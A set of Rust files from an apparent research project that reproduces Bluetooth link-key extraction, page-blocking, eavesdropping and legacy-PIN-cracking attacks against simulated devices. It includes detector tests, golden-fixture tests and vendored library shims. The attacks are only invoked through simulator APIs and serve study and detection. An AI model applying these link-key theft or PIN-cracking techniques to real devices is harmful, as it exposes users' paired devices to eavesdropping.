        .snoop_trace()
        .has_page_blocking_signature(addr(addrs::C)));

    // 12b world.
    let mut attacked = World::new(603);
    let m2 = attacked.add_device(profiles::lg_velvet().victim_phone_with_snoop(addrs::M));
    let _c2 = attacked.add_device(profiles::car_kit(addrs::C));
    let a2 = attacked.add_device(profiles::attacker_nexus_5x(addrs::C));
    attacked.device_mut(a2).host.connect_only(addr(addrs::M));
    attacked.schedule_in(Duration::from_secs(2), move |w| {
        w.device_mut(m2).host.pair_with(addr(addrs::C));
    });
    attacked.run_for(Duration::from_secs(10));
    assert!(attacked
        .device(m2)
        .snoop_trace()
        .has_page_blocking_signature(addr(addrs::C)));

    // Attacker-side signature (the iPhone fallback) holds too.
    assert!(attacked
        .device(a2)
        .snoop_trace()
        .has_attacker_side_page_blocking_signature(addr(addrs::M)));
}

#[test]
fn signature_survives_btsnoop_round_trip() {
    // The detector must work on the *serialized* dump, which is what an
    // investigator actually has.
    let mut world = World::new(604);
    let m = world.add_device(profiles::lg_velvet().victim_phone_with_snoop(addrs::M));
    let _c = world.add_device(profiles::car_kit(addrs::C));
    let a = world.add_device(profiles::attacker_nexus_5x(addrs::C));
    world.device_mut(a).host.connect_only(addr(addrs::M));
    world.schedule_in(Duration::from_secs(2), move |w| {
        w.device_mut(m).host.pair_with(addr(addrs::C));
    });
    world.run_for(Duration::from_secs(10));

    let bytes = world.device(m).bug_report().expect("snoop on");
    let trace = blap_repro::snoop::log::HciTrace::from_btsnoop_bytes(&bytes).expect("parses");
    assert!(trace.has_page_blocking_signature(addr(addrs::C)));
}

#[test]
fn key_bearing_packets_identified_in_both_directions() {
    // Sanity on the byte-level helpers the mitigations build on.
    let key = "71a70981f30d6af9e20adee8aafe3264"
        .parse()
        .expect("valid key");
    let cmd = HciPacket::Command(Command::LinkKeyRequestReply {
        bd_addr: addr(addrs::C),
        link_key: key,
    });
    let evt = HciPacket::Event(Event::LinkKeyNotification {
        bd_addr: addr(addrs::C),
        link_key: key,
        key_type: blap_repro::types::LinkKeyType::UnauthenticatedP256,
    });
    assert!(blap_repro::snoop::redact::carries_link_key(&cmd.encode()));
    assert!(blap_repro::snoop::redact::carries_link_key(&evt.encode()));
    let neg = HciPacket::Command(Command::LinkKeyRequestNegativeReply {
        bd_addr: addr(addrs::C),
    });
    assert!(!blap_repro::snoop::redact::carries_link_key(&neg.encode()));
}
