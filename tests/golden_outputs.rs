//! Golden-seed fixtures for the hot-path performance work.
//!
//! The zero-copy / table-kernel refactor (ISSUE 3) is only safe because
//! every observable artifact is pinned: btsnoop bytes, USB capture
//! streams, Table I/II stdout, the `--trace` JSONL, and the merged
//! metrics document. These tests compare today's output against fixtures
//! captured from the pre-refactor tree, at `BLAP_JOBS=1` and
//! `BLAP_JOBS=8`, so a perf change that shifts a single byte fails
//! loudly.
//!
//! Regenerate (only when an *intentional* behavior change lands) with:
//!
//! ```text
//! BLAP_REGEN_FIXTURES=1 cargo test --test golden_outputs
//! ```

use blap::legacy_pin::{crack_numeric_pin_with, LegacyPairingCapture};
use blap::report;
use blap::runner::Jobs;
use blap_bench::{
    run_table1_observed_with, run_table1_with, run_table2_observed_with, run_table2_with,
};
use blap_repro::attacks::eavesdrop::EavesdropScenario;
use blap_repro::sim::{profiles, World};
use blap_repro::types::{Duration, ServiceUuid};
use std::fmt::Write as _;
use std::fs;
use std::path::PathBuf;

fn fixture_path(name: &str) -> PathBuf {
    PathBuf::from(env!("CARGO_MANIFEST_DIR"))
        .join("tests/fixtures")
        .join(name)
}

/// Compares `actual` against the named fixture, or rewrites the fixture
/// when `BLAP_REGEN_FIXTURES` is set. Failure messages report the first
/// differing offset instead of dumping kilobytes of bytes.
fn check_fixture(name: &str, actual: &[u8]) {
    let path = fixture_path(name);
    if std::env::var_os("BLAP_REGEN_FIXTURES").is_some() {
        fs::create_dir_all(path.parent().expect("fixture dir")).expect("create fixtures dir");
        fs::write(&path, actual).expect("write fixture");
        return;
    }
    let expected = fs::read(&path).unwrap_or_else(|e| {
        panic!("missing fixture {name} ({e}); run BLAP_REGEN_FIXTURES=1 cargo test")
    });
    if expected != actual {
        let first_diff = expected
            .iter()
            .zip(actual.iter())
            .position(|(a, b)| a != b)
            .unwrap_or_else(|| expected.len().min(actual.len()));
        panic!(
            "{name} diverged from golden fixture: expected {} bytes, got {} bytes, \
             first difference at offset {first_diff}",
            expected.len(),
            actual.len()
        );
    }
}

/// The Fig 11 world: a USB-transport Windows PC bonding with a
/// snoop-enabled Android phone, including a disconnect/reconnect cycle,
/// so both observation taps (USB analyzer and btsnoop dump) see the
/// link key cross HCI.
fn fig11_world() -> (World, blap_repro::sim::DeviceId, blap_repro::sim::DeviceId) {
    let mut world = World::new(11);
    let pc = world.add_device(profiles::windows_ms_driver().soft_target("00:1b:7d:da:71:0a"));
    let phone =
        world.add_device(profiles::lg_velvet().victim_phone_with_snoop("48:90:12:34:56:78"));
    let phone_addr = "48:90:12:34:56:78".parse().expect("valid address");
    world.device_mut(pc).host.pair_with(phone_addr);
    world.run_for(Duration::from_secs(5));
    world.device_mut(pc).host.disconnect(phone_addr);
    world.run_for(Duration::from_secs(2));
    world
        .device_mut(pc)
        .host
        .connect_profile(phone_addr, ServiceUuid::HANDS_FREE);
    world.run_for(Duration::from_secs(5));
    (world, pc, phone)
}

#[test]
fn golden_btsnoop_and_usb_capture_bytes() {
    let (world, pc, phone) = fig11_world();
    let snoop = world.device(phone).bug_report().expect("snoop on");
    let usb = world.device(pc).usb_capture().expect("USB transport");
    check_fixture("fig11_phone.btsnoop", &snoop);
    check_fixture("fig11_pc_usb.bin", &usb);
}

#[test]
fn golden_table1_stdout() {
    for jobs in [1, 8] {
        let rendered = report::table1(&run_table1_with(2022, Jobs::new(jobs)));
        check_fixture("table1.txt", rendered.as_bytes());
    }
}

#[test]
fn golden_table2_stdout() {
    for jobs in [1, 8] {
        let rendered = report::table2(&run_table2_with(2022, 4, Jobs::new(jobs)));
        check_fixture("table2.txt", rendered.as_bytes());
    }
}

#[test]
fn golden_table2_trace_and_metrics() {
    for jobs in [1, 8] {
        let observed = run_table2_observed_with(2022, 2, Jobs::new(jobs));
        check_fixture("table2_trace.jsonl", observed.trace.as_bytes());
        check_fixture("table2_metrics.json", observed.metrics.to_json().as_bytes());
    }
}

#[test]
fn golden_table1_trace() {
    // The extraction trace (with its causal spans) is pinned too, so the
    // CI `blap-trace check` step has a representative Table I artifact.
    let observed = run_table1_observed_with(2022, Jobs::new(8));
    check_fixture("table1_trace.jsonl", observed.trace.as_bytes());
}

#[test]
fn golden_trace_check_and_timeline_reports() {
    // Mirrors `blap-trace check` / `blap-trace timeline` over the pinned
    // Table I/II traces: the streaming analyzer's rendered reports are
    // fixtures too, and CI diffs the CLI's actual stdout against the same
    // files — so the library and the binary are pinned to each other.
    for table in ["table1", "table2"] {
        let trace = fs::read_to_string(fixture_path(&format!("{table}_trace.jsonl")))
            .expect("trace fixture present");
        let mut analyzer = blap_obs::StreamAnalyzer::new();
        for line in trace.lines() {
            analyzer.push_line(line).expect("fixture lines parse");
        }
        let analysis = analyzer.finish();
        assert!(analysis.ok(), "pinned traces are violation-free");
        let check = format!("{}OK: all invariants hold\n", analysis.report());
        check_fixture(&format!("{table}_check.txt"), check.as_bytes());
        let timeline = format!(
            "{} lines, {} trial segments\n{}",
            analysis.line_count,
            analysis.segment_count,
            analysis.profile.render()
        );
        check_fixture(&format!("{table}_timeline.txt"), timeline.as_bytes());
    }
}

#[test]
fn golden_eavesdrop_report() {
    // Locks the sniffer's AES-CCM seal path and the offline decrypt path:
    // a summary of the stolen key and every recovered plaintext.
    let report = EavesdropScenario::new(404).run();
    let mut summary = String::new();
    writeln!(summary, "frames={}", report.captured_encrypted_frames).unwrap();
    writeln!(
        summary,
        "ciphertext_contains_secrets={}",
        report.ciphertext_contains_secrets
    )
    .unwrap();
    writeln!(summary, "stolen_key={:?}", report.stolen_key).unwrap();
    for secret in &report.decrypted_secrets {
        writeln!(summary, "secret={}", String::from_utf8_lossy(secret)).unwrap();
    }
    check_fixture("eavesdrop_404.txt", summary.as_bytes());
}

#[test]
fn golden_pincrack_result() {
    // Locks the SAFER+/E1/E21/E22 kernel chain end to end: the recovered
    // PIN and link key for a fixed synthesized capture must never move.
    let capture = LegacyPairingCapture::synthesize(
        "11:11:11:11:11:11".parse().expect("valid address"),
        "cc:cc:cc:cc:cc:cc".parse().expect("valid address"),
        b"73019",
        [0x11; 16],
        [0x22; 16],
        [0x33; 16],
        [0x44; 16],
    );
    for jobs in [1, 8] {
        let hit = crack_numeric_pin_with(&capture, 5, Jobs::new(jobs)).expect("PIN cracks");
        let summary = format!(
            "pin={}\nkey={}\nattempts={}\n",
            String::from_utf8_lossy(&hit.pin),
            hit.link_key,
            hit.attempts
        );
        check_fixture("pincrack_73019.txt", summary.as_bytes());
    }
}
