//! Offline shim: no-op `Serialize`/`Deserialize` derive macros.
//!
//! The workspace only uses serde derives as declarations of intent (no code
//! calls serialization; the on-disk formats are hand-written, e.g. the
//! btsnoop container and the `bt_config.conf` writer). With crates.io
//! unreachable in the build environment, these derives expand to nothing,
//! which keeps every `#[derive(Serialize, Deserialize)]` site compiling
//! unchanged.

use proc_macro::TokenStream;

/// Expands to nothing; accepts and ignores `#[serde(...)]` attributes.
#[proc_macro_derive(Serialize, attributes(serde))]
pub fn derive_serialize(_input: TokenStream) -> TokenStream {
    TokenStream::new()
}

/// Expands to nothing; accepts and ignores `#[serde(...)]` attributes.
#[proc_macro_derive(Deserialize, attributes(serde))]
pub fn derive_deserialize(_input: TokenStream) -> TokenStream {
    TokenStream::new()
}
