//! Offline stand-in for the `criterion` benchmark harness.
//!
//! The registry cannot be reached from this environment, so this crate
//! re-implements the subset of criterion's surface the workspace benches
//! use: `criterion_group!`/`criterion_main!`, benchmark groups with
//! `sample_size`, `bench_function`/`bench_with_input`, and `Bencher::iter`
//! / `iter_batched`. Unlike a pure no-op stub it really measures: each
//! benchmark is auto-calibrated to a target sample time, run for N
//! samples, and the median/min/max ns-per-iteration are printed in a
//! criterion-like format so results can be compared across runs.

use std::time::{Duration, Instant};

pub use std::hint::black_box;

/// How to hand batched inputs to the routine (sizing hint; the shim
/// times per-iteration either way, excluding setup).
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum BatchSize {
    SmallInput,
    LargeInput,
    PerIteration,
}

/// A benchmark identifier: function name plus a parameter rendering.
#[derive(Clone, Debug)]
pub struct BenchmarkId {
    full: String,
}

impl BenchmarkId {
    pub fn new(function_name: impl Into<String>, parameter: impl std::fmt::Display) -> Self {
        BenchmarkId {
            full: format!("{}/{}", function_name.into(), parameter),
        }
    }
}

/// Times closures for one benchmark; handed to the user routine.
pub struct Bencher {
    sample_size: usize,
    /// Filled in by `iter`/`iter_batched`: per-sample mean ns/iter.
    samples_ns: Vec<f64>,
}

impl Bencher {
    /// Measures `routine`, timing the whole batch and dividing by count.
    pub fn iter<O, R: FnMut() -> O>(&mut self, mut routine: R) {
        // Calibrate: grow the per-sample iteration count until one sample
        // takes ~5ms, so cheap routines aren't dominated by timer noise.
        let mut iters: u64 = 1;
        loop {
            let start = Instant::now();
            for _ in 0..iters {
                black_box(routine());
            }
            let elapsed = start.elapsed();
            if elapsed >= Duration::from_millis(5) || iters >= 1 << 24 {
                break;
            }
            iters = (iters * 2).max(1);
        }
        self.samples_ns.clear();
        for _ in 0..self.sample_size {
            let start = Instant::now();
            for _ in 0..iters {
                black_box(routine());
            }
            let elapsed = start.elapsed();
            self.samples_ns
                .push(elapsed.as_secs_f64() * 1e9 / iters as f64);
        }
    }

    /// Measures `routine` with fresh inputs from `setup`, excluding the
    /// setup cost from the timing.
    pub fn iter_batched<I, O, S, R>(&mut self, mut setup: S, mut routine: R, _size: BatchSize)
    where
        S: FnMut() -> I,
        R: FnMut(I) -> O,
    {
        let mut iters: u64 = 1;
        loop {
            let inputs: Vec<I> = (0..iters).map(|_| setup()).collect();
            let start = Instant::now();
            for input in inputs {
                black_box(routine(input));
            }
            let elapsed = start.elapsed();
            if elapsed >= Duration::from_millis(5) || iters >= 1 << 20 {
                break;
            }
            iters = (iters * 2).max(1);
        }
        self.samples_ns.clear();
        for _ in 0..self.sample_size {
            let inputs: Vec<I> = (0..iters).map(|_| setup()).collect();
            let start = Instant::now();
            for input in inputs {
                black_box(routine(input));
            }
            let elapsed = start.elapsed();
            self.samples_ns
                .push(elapsed.as_secs_f64() * 1e9 / iters as f64);
        }
    }
}

fn format_ns(ns: f64) -> String {
    if ns < 1_000.0 {
        format!("{ns:.2} ns")
    } else if ns < 1_000_000.0 {
        format!("{:.2} µs", ns / 1_000.0)
    } else if ns < 1_000_000_000.0 {
        format!("{:.2} ms", ns / 1_000_000.0)
    } else {
        format!("{:.3} s", ns / 1_000_000_000.0)
    }
}

/// A named group of related benchmarks.
pub struct BenchmarkGroup<'a> {
    name: String,
    sample_size: usize,
    _parent: &'a mut Criterion,
}

impl BenchmarkGroup<'_> {
    /// Sets how many timed samples each benchmark records (min 2).
    pub fn sample_size(&mut self, n: usize) -> &mut Self {
        self.sample_size = n.max(2);
        self
    }

    fn run_named<F: FnMut(&mut Bencher)>(&mut self, id: &str, mut f: F) {
        let mut bencher = Bencher {
            sample_size: self.sample_size,
            samples_ns: Vec::new(),
        };
        f(&mut bencher);
        let full = format!("{}/{}", self.name, id);
        if bencher.samples_ns.is_empty() {
            println!("{full:<55} (no samples)");
            return;
        }
        bencher
            .samples_ns
            .sort_by(|a, b| a.partial_cmp(b).expect("finite sample"));
        let n = bencher.samples_ns.len();
        let median = if n % 2 == 1 {
            bencher.samples_ns[n / 2]
        } else {
            (bencher.samples_ns[n / 2 - 1] + bencher.samples_ns[n / 2]) / 2.0
        };
        println!(
            "{full:<55} time: [{} {} {}]",
            format_ns(bencher.samples_ns[0]),
            format_ns(median),
            format_ns(bencher.samples_ns[n - 1]),
        );
    }

    /// Runs one benchmark by plain name.
    pub fn bench_function<F: FnMut(&mut Bencher)>(&mut self, id: &str, f: F) -> &mut Self {
        self.run_named(id, f);
        self
    }

    /// Runs one benchmark with a shared input and a parameterised id.
    pub fn bench_with_input<I: ?Sized, F>(
        &mut self,
        id: BenchmarkId,
        input: &I,
        mut f: F,
    ) -> &mut Self
    where
        F: FnMut(&mut Bencher, &I),
    {
        let name = id.full.clone();
        self.run_named(&name, |b| f(b, input));
        self
    }

    /// Ends the group (printing happens eagerly; nothing to flush).
    pub fn finish(self) {}
}

/// The benchmark driver.
#[derive(Default)]
pub struct Criterion {}

impl Criterion {
    /// Opens a named group.
    pub fn benchmark_group(&mut self, name: impl Into<String>) -> BenchmarkGroup<'_> {
        let name = name.into();
        println!("\n== {name} ==");
        BenchmarkGroup {
            name,
            sample_size: 20,
            _parent: self,
        }
    }

    /// Single benchmark outside any group.
    pub fn bench_function<F: FnMut(&mut Bencher)>(&mut self, id: &str, f: F) -> &mut Self {
        let mut group = self.benchmark_group("bench");
        group.bench_function(id, f);
        group.finish();
        self
    }
}

/// Declares a group-runner function from benchmark functions.
#[macro_export]
macro_rules! criterion_group {
    ($name:ident, $($target:path),+ $(,)?) => {
        pub fn $name() {
            let mut criterion = $crate::Criterion::default();
            $( $target(&mut criterion); )+
        }
    };
}

/// Declares `main` from one or more `criterion_group!` names.
#[macro_export]
macro_rules! criterion_main {
    ($($group:path),+ $(,)?) => {
        fn main() {
            $( $group(); )+
        }
    };
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn measures_something_positive() {
        let mut c = Criterion::default();
        let mut group = c.benchmark_group("shim/self_test");
        group.sample_size(3);
        group.bench_function("sum", |b| b.iter(|| (0..100u64).sum::<u64>()));
        group.bench_with_input(BenchmarkId::new("sum_to", 50u64), &50u64, |b, &n| {
            b.iter_batched(|| n, |n| (0..n).sum::<u64>(), BatchSize::SmallInput)
        });
        group.finish();
    }
}
