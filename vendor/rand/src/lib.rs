//! Offline shim for the subset of the `rand` 0.8 API this workspace uses.
//!
//! The build environment has no access to crates.io, so the workspace
//! vendors a small, self-contained implementation instead of the real
//! crate: [`rngs::StdRng`] (xoshiro256++ seeded through SplitMix64),
//! [`SeedableRng::seed_from_u64`], and the [`Rng`] helpers `gen`,
//! `gen_range` and `fill`. The generator is deterministic for a given
//! seed, which is all the simulation requires; it makes no
//! cryptographic-quality claims (the simulated stacks only need
//! reproducible randomness, and the crypto crate derives key material
//! through its own primitives).

#![forbid(unsafe_code)]

use std::ops::Range;

/// Low-level generator interface: a source of 64 random bits.
pub trait RngCore {
    /// Returns the next 64 random bits.
    fn next_u64(&mut self) -> u64;

    /// Fills `dest` with random bytes.
    fn fill_bytes(&mut self, dest: &mut [u8]) {
        for chunk in dest.chunks_mut(8) {
            let bytes = self.next_u64().to_le_bytes();
            chunk.copy_from_slice(&bytes[..chunk.len()]);
        }
    }
}

/// User-facing random value helpers, mirroring `rand::Rng`.
pub trait Rng: RngCore {
    /// Samples a value of a type with a standard uniform distribution.
    fn gen<T: Standard>(&mut self) -> T
    where
        Self: Sized,
    {
        T::sample(self)
    }

    /// Samples uniformly from a range.
    fn gen_range<T, R>(&mut self, range: R) -> T
    where
        R: SampleRange<T>,
    {
        range.sample_from(self)
    }

    /// Fills a byte buffer with random data.
    fn fill<T: Fill + ?Sized>(&mut self, dest: &mut T) {
        dest.fill_from(self);
    }

    /// Samples a bool that is `true` with probability `p`.
    fn gen_bool(&mut self, p: f64) -> bool {
        sample_unit_f64(self.next_u64()) < p
    }
}

impl<R: RngCore + ?Sized> Rng for R {}

/// Types samplable from the standard uniform distribution (`Rng::gen`).
pub trait Standard {
    /// Draws one value.
    fn sample<R: Rng + ?Sized>(rng: &mut R) -> Self;
}

macro_rules! impl_standard_int {
    ($($t:ty),*) => {$(
        impl Standard for $t {
            fn sample<R: Rng + ?Sized>(rng: &mut R) -> Self {
                rng.next_u64() as $t
            }
        }
    )*};
}
impl_standard_int!(u8, u16, u32, u64, usize, i8, i16, i32, i64, isize);

impl Standard for u128 {
    fn sample<R: Rng + ?Sized>(rng: &mut R) -> Self {
        (rng.next_u64() as u128) << 64 | rng.next_u64() as u128
    }
}

impl Standard for bool {
    fn sample<R: Rng + ?Sized>(rng: &mut R) -> Self {
        rng.next_u64() & 1 == 1
    }
}

impl Standard for f64 {
    fn sample<R: Rng + ?Sized>(rng: &mut R) -> Self {
        sample_unit_f64(rng.next_u64())
    }
}

impl<const N: usize> Standard for [u8; N] {
    fn sample<R: Rng + ?Sized>(rng: &mut R) -> Self {
        let mut out = [0u8; N];
        rng.fill_bytes(&mut out);
        out
    }
}

/// Maps 64 random bits to a uniform f64 in `[0, 1)`.
fn sample_unit_f64(bits: u64) -> f64 {
    (bits >> 11) as f64 * (1.0 / (1u64 << 53) as f64)
}

/// Ranges samplable by `Rng::gen_range`.
pub trait SampleRange<T> {
    /// Draws one value from the range.
    fn sample_from<R: Rng + ?Sized>(self, rng: &mut R) -> T;
}

macro_rules! impl_sample_range_uint {
    ($($t:ty),*) => {$(
        impl SampleRange<$t> for Range<$t> {
            fn sample_from<R: Rng + ?Sized>(self, rng: &mut R) -> $t {
                assert!(self.start < self.end, "empty range in gen_range");
                let span = (self.end - self.start) as u64;
                self.start + (uniform_u64(rng, span) as $t)
            }
        }
        impl SampleRange<$t> for std::ops::RangeInclusive<$t> {
            fn sample_from<R: Rng + ?Sized>(self, rng: &mut R) -> $t {
                let (start, end) = (*self.start(), *self.end());
                assert!(start <= end, "empty range in gen_range");
                let span = (end - start) as u64;
                if span == u64::MAX {
                    return rng.next_u64() as $t;
                }
                start + (uniform_u64(rng, span + 1) as $t)
            }
        }
    )*};
}
impl_sample_range_uint!(u8, u16, u32, u64, usize);

impl SampleRange<f64> for Range<f64> {
    fn sample_from<R: Rng + ?Sized>(self, rng: &mut R) -> f64 {
        assert!(self.start < self.end, "empty range in gen_range");
        self.start + sample_unit_f64(rng.next_u64()) * (self.end - self.start)
    }
}

/// Uniform integer in `[0, span)` by widening multiply (Lemire), with a
/// rejection loop to remove modulo bias.
fn uniform_u64<R: Rng + ?Sized>(rng: &mut R, span: u64) -> u64 {
    debug_assert!(span > 0);
    // `span` is a power of two (or 1) often enough to shortcut.
    if span.is_power_of_two() {
        return rng.next_u64() & (span - 1);
    }
    let zone = u64::MAX - (u64::MAX - span + 1) % span;
    loop {
        let v = rng.next_u64();
        let (hi, lo) = {
            let wide = (v as u128) * (span as u128);
            ((wide >> 64) as u64, wide as u64)
        };
        if lo <= zone {
            return hi;
        }
    }
}

/// Buffers fillable by `Rng::fill`.
pub trait Fill {
    /// Fills `self` from the generator.
    fn fill_from<R: Rng + ?Sized>(&mut self, rng: &mut R);
}

impl Fill for [u8] {
    fn fill_from<R: Rng + ?Sized>(&mut self, rng: &mut R) {
        rng.fill_bytes(self);
    }
}

impl<const N: usize> Fill for [u8; N] {
    fn fill_from<R: Rng + ?Sized>(&mut self, rng: &mut R) {
        rng.fill_bytes(self);
    }
}

/// Deterministic construction from seeds.
pub trait SeedableRng: Sized {
    /// Builds a generator from a 64-bit seed (SplitMix64 expansion).
    fn seed_from_u64(state: u64) -> Self;
}

pub mod rngs {
    //! Concrete generators.

    use super::{RngCore, SeedableRng};

    /// The workspace's standard deterministic generator: xoshiro256++.
    ///
    /// Not the same stream as the real `rand::rngs::StdRng` (ChaCha12) —
    /// everything in this workspace only relies on determinism for a given
    /// seed, never on matching upstream streams.
    #[derive(Clone, Debug)]
    pub struct StdRng {
        s: [u64; 4],
    }

    impl SeedableRng for StdRng {
        fn seed_from_u64(state: u64) -> Self {
            // SplitMix64 expansion, the standard recommended seeding.
            let mut sm = state;
            let mut next = || {
                sm = sm.wrapping_add(0x9e3779b97f4a7c15);
                let mut z = sm;
                z = (z ^ (z >> 30)).wrapping_mul(0xbf58476d1ce4e5b9);
                z = (z ^ (z >> 27)).wrapping_mul(0x94d049bb133111eb);
                z ^ (z >> 31)
            };
            StdRng {
                s: [next(), next(), next(), next()],
            }
        }
    }

    impl RngCore for StdRng {
        fn next_u64(&mut self) -> u64 {
            let result = self.s[0]
                .wrapping_add(self.s[3])
                .rotate_left(23)
                .wrapping_add(self.s[0]);
            let t = self.s[1] << 17;
            self.s[2] ^= self.s[0];
            self.s[3] ^= self.s[1];
            self.s[1] ^= self.s[2];
            self.s[0] ^= self.s[3];
            self.s[2] ^= t;
            self.s[3] = self.s[3].rotate_left(45);
            result
        }
    }
}

#[cfg(test)]
mod tests {
    use super::rngs::StdRng;
    use super::{Rng, RngCore, SeedableRng};

    #[test]
    fn deterministic_for_seed() {
        let mut a = StdRng::seed_from_u64(7);
        let mut b = StdRng::seed_from_u64(7);
        for _ in 0..100 {
            assert_eq!(a.next_u64(), b.next_u64());
        }
        let mut c = StdRng::seed_from_u64(8);
        assert_ne!(a.next_u64(), c.next_u64());
    }

    #[test]
    fn gen_range_stays_in_bounds() {
        let mut rng = StdRng::seed_from_u64(1);
        for _ in 0..10_000 {
            let v: u64 = rng.gen_range(10u64..17);
            assert!((10..17).contains(&v));
            let f: f64 = rng.gen_range(-1.5f64..2.5);
            assert!((-1.5..2.5).contains(&f));
            let i: u16 = rng.gen_range(0u16..=0x0EFF);
            assert!(i <= 0x0EFF);
        }
    }

    #[test]
    fn uniform_is_roughly_uniform() {
        let mut rng = StdRng::seed_from_u64(3);
        let mut counts = [0usize; 10];
        for _ in 0..100_000 {
            counts[rng.gen_range(0usize..10)] += 1;
        }
        for &c in &counts {
            assert!((8_000..12_000).contains(&c), "bucket count {c}");
        }
    }

    #[test]
    fn fill_covers_whole_buffer() {
        let mut rng = StdRng::seed_from_u64(4);
        let mut buf = [0u8; 33];
        rng.fill(&mut buf);
        assert!(buf.iter().any(|&b| b != 0));
        let word: [u8; 16] = rng.gen();
        assert_ne!(word, [0u8; 16]);
    }
}
