//! Offline shim for the slice of `serde` this workspace names.
//!
//! Only the derive macros are ever used (as forward-looking annotations on
//! key/bond types); no code in the workspace serializes through serde
//! traits. The real dependency is unavailable offline, so this crate
//! provides marker traits plus the no-op derives from the vendored
//! `serde_derive`.

#![forbid(unsafe_code)]

pub use serde_derive::{Deserialize, Serialize};

/// Marker stand-in for `serde::Serialize` (no methods; nothing in the
/// workspace bounds on it).
pub trait SerializeTrait {}

/// Marker stand-in for `serde::Deserialize` (no methods; nothing in the
/// workspace bounds on it).
pub trait DeserializeTrait<'de> {}
