//! Test configuration and the deterministic case RNG.

use rand::rngs::StdRng;
use rand::{Rng, RngCore, SeedableRng};

/// Per-`proptest!` block configuration (only `cases` is modelled).
#[derive(Clone, Copy, Debug)]
pub struct ProptestConfig {
    /// How many cases each property runs.
    pub cases: u32,
}

impl ProptestConfig {
    /// A config running `cases` cases per property.
    pub fn with_cases(cases: u32) -> Self {
        ProptestConfig { cases }
    }
}

impl Default for ProptestConfig {
    fn default() -> Self {
        // Real proptest defaults to 256; that is affordable here too.
        ProptestConfig { cases: 256 }
    }
}

/// The generator a strategy draws from: a seeded [`StdRng`] whose stream
/// is a pure function of the test name and case index.
#[derive(Clone, Debug)]
pub struct TestRng {
    inner: StdRng,
}

impl TestRng {
    /// Builds the RNG for one case of one named property.
    pub fn for_case(test_name: &str, case: u32) -> Self {
        // FNV-1a over the name decorrelates properties; the case index
        // decorrelates cases within one property.
        let mut h: u64 = 0xcbf29ce484222325;
        for b in test_name.bytes() {
            h = (h ^ b as u64).wrapping_mul(0x100000001b3);
        }
        TestRng {
            inner: StdRng::seed_from_u64(h ^ (case as u64).wrapping_mul(0x9e3779b97f4a7c15)),
        }
    }

    /// The next 64 random bits.
    pub fn next_u64(&mut self) -> u64 {
        self.inner.next_u64()
    }

    /// Uniform index below `n`.
    pub fn below(&mut self, n: usize) -> usize {
        assert!(n > 0);
        self.inner.gen_range(0..n)
    }

    /// Access to the full [`Rng`] helper surface.
    pub fn rng(&mut self) -> &mut StdRng {
        &mut self.inner
    }
}
