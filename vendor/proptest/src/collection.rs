//! Collection strategies (`vec`).

use std::ops::Range;

use crate::strategy::Strategy;
use crate::test_runner::TestRng;

/// A strategy for `Vec<S::Value>` with a length drawn from a range.
pub struct VecStrategy<S> {
    element: S,
    len: Range<usize>,
}

/// Generates vectors whose length falls in `len` (half-open, like real
/// proptest's `0..32`) with elements drawn from `element`.
pub fn vec<S: Strategy>(element: S, len: Range<usize>) -> VecStrategy<S> {
    assert!(len.start < len.end, "empty length range in collection::vec");
    VecStrategy { element, len }
}

impl<S: Strategy> Strategy for VecStrategy<S> {
    type Value = Vec<S::Value>;
    fn generate(&self, rng: &mut TestRng) -> Self::Value {
        let len = self.len.start + rng.below(self.len.end - self.len.start);
        (0..len).map(|_| self.element.generate(rng)).collect()
    }
}
