//! The [`Strategy`] trait and the combinators the workspace uses.

use std::marker::PhantomData;
use std::ops::{Range, RangeInclusive};

use rand::Rng;

use crate::test_runner::TestRng;

/// A recipe for generating values of one type.
pub trait Strategy {
    /// The generated type.
    type Value;

    /// Draws one value.
    fn generate(&self, rng: &mut TestRng) -> Self::Value;

    /// Maps generated values through a function.
    fn prop_map<U, F>(self, f: F) -> Map<Self, F>
    where
        Self: Sized,
        F: Fn(Self::Value) -> U,
    {
        Map { inner: self, f }
    }
}

/// Always produces a clone of one value.
#[derive(Clone, Copy, Debug)]
pub struct Just<T: Clone>(pub T);

impl<T: Clone> Strategy for Just<T> {
    type Value = T;
    fn generate(&self, _rng: &mut TestRng) -> T {
        self.0.clone()
    }
}

/// The result of [`Strategy::prop_map`].
#[derive(Clone, Copy, Debug)]
pub struct Map<S, F> {
    inner: S,
    f: F,
}

impl<S, F, U> Strategy for Map<S, F>
where
    S: Strategy,
    F: Fn(S::Value) -> U,
{
    type Value = U;
    fn generate(&self, rng: &mut TestRng) -> U {
        (self.f)(self.inner.generate(rng))
    }
}

/// A boxed generator closure — one `prop_oneof!` variant.
pub type VariantFn<V> = Box<dyn Fn(&mut TestRng) -> V>;

/// The result of [`crate::prop_oneof!`]: a uniform choice over variants.
pub struct Union<V> {
    variants: Vec<VariantFn<V>>,
}

impl<V> Union<V> {
    /// Builds a union from boxed generator closures (one per variant).
    pub fn new(variants: Vec<VariantFn<V>>) -> Self {
        assert!(!variants.is_empty(), "prop_oneof! needs at least one arm");
        Union { variants }
    }
}

impl<V> Strategy for Union<V> {
    type Value = V;
    fn generate(&self, rng: &mut TestRng) -> V {
        let idx = rng.below(self.variants.len());
        (self.variants[idx])(rng)
    }
}

macro_rules! impl_range_strategy {
    ($($t:ty),*) => {$(
        impl Strategy for Range<$t> {
            type Value = $t;
            fn generate(&self, rng: &mut TestRng) -> $t {
                rng.rng().gen_range(self.clone())
            }
        }
        impl Strategy for RangeInclusive<$t> {
            type Value = $t;
            fn generate(&self, rng: &mut TestRng) -> $t {
                rng.rng().gen_range(self.clone())
            }
        }
    )*};
}
impl_range_strategy!(u8, u16, u32, u64, usize);

impl Strategy for Range<f64> {
    type Value = f64;
    fn generate(&self, rng: &mut TestRng) -> f64 {
        rng.rng().gen_range(self.clone())
    }
}

/// String strategies from character-class patterns, e.g. `"[a-z ]{0,32}"`.
impl Strategy for &'static str {
    type Value = String;
    fn generate(&self, rng: &mut TestRng) -> String {
        crate::string::generate_from_pattern(self, rng)
    }
}

macro_rules! impl_tuple_strategy {
    ($($name:ident),+) => {
        impl<$($name: Strategy),+> Strategy for ($($name,)+) {
            type Value = ($($name::Value,)+);
            #[allow(non_snake_case)]
            fn generate(&self, rng: &mut TestRng) -> Self::Value {
                let ($($name,)+) = self;
                ($($name.generate(rng),)+)
            }
        }
    };
}
impl_tuple_strategy!(A);
impl_tuple_strategy!(A, B);
impl_tuple_strategy!(A, B, C);
impl_tuple_strategy!(A, B, C, D);
impl_tuple_strategy!(A, B, C, D, E);
impl_tuple_strategy!(A, B, C, D, E, F);
